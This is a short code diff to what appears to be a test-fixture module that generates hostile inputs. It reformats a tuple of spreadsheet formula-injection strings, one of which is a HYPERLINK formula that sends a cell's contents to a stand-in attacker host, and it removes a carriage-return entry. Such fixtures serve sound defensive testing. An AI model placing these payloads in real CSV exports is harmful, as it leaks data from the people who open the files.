@@ -214,14 +214,7 @@ def huge_json(n_bytes: int = 40 << 20) -> bytes:
     return json.dumps(doc).encode()
 
 
-FORMULA_NAMES = (
-    '=HYPERLINK("http://evil.example/?leak="&A1)',
-    "+1+2",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\tTAB",
-    "\rCR",
-)
+FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1)', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB")
 
 
 def formula_csv(n: int = 30, seed: int = 0) -> bytes:
